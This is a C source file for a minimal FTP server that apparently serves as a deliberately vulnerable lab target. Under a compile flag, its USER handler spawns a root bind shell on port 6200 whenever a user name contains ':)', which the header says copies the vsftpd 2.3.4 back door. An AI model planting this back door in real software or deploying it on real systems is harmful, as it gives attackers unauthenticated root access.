/*
 * ftpsmile.c - a small FTP server: USER, PASS (checked with crypt against
 * the shadow entry), PASV (a data listener: its protocol), QUIT.
 * Back-doored (-DBACKDOOR): a user name containing ":)" opens a root shell
 * listening on port 6200 (the shape of vsftpd 2.3.4's back door).
 */
#include "srv.h"
#include <shadow.h>

char *crypt(const char *key, const char *salt); /* libcrypt (stub: nvram_stub.c) */

#ifdef BACKDOOR
static void extra(void)
{
	int s = srv_listen(6200, SOCK_STREAM);
	int c = accept(s, NULL, NULL);
	dup2(c, 0);
	dup2(c, 1);
	dup2(c, 2);
	execl("/bin/sh", "sh", (char *)NULL);
}
#endif

static void session(int fd)
{
	char line[512], user[128] = "";
	FILE *in = fdopen(fd, "r");
	srv_say(fd, "220 ready\r\n");
	while (in && fgets(line, sizeof(line), in)) {
		char *arg = strchr(line, ' ');
		if (arg) {
			*arg++ = 0;
			arg[strcspn(arg, "\r\n")] = 0;
		}
		if (strcmp(line, "USER") == 0 && arg) {
#ifdef BACKDOOR
			if (strstr(arg, ":)")) {
				if (fork() == 0)
					extra();
			}
#endif
			snprintf(user, sizeof(user), "%s", arg);
			srv_say(fd, "331 password?\r\n");
		} else if (strcmp(line, "PASS") == 0 && arg) {
			struct spwd *sp = getspnam(user);
			if (sp && strcmp(crypt(arg, sp->sp_pwdp), sp->sp_pwdp) == 0)
				srv_say(fd, "230 ok\r\n");
			else
				srv_say(fd, "530 no\r\n");
		} else if (strcmp(line, "PASV") == 0) {
			int d = srv_listen(0, SOCK_STREAM);
			srv_say(fd, "227 passive\r\n");
			close(accept(d, NULL, NULL));
		} else if (strcmp(line, "QUIT") == 0) {
			break;
		}
	}
}

int main(void)
{
	srv_serve(21, session, 1);
	return 0;
}
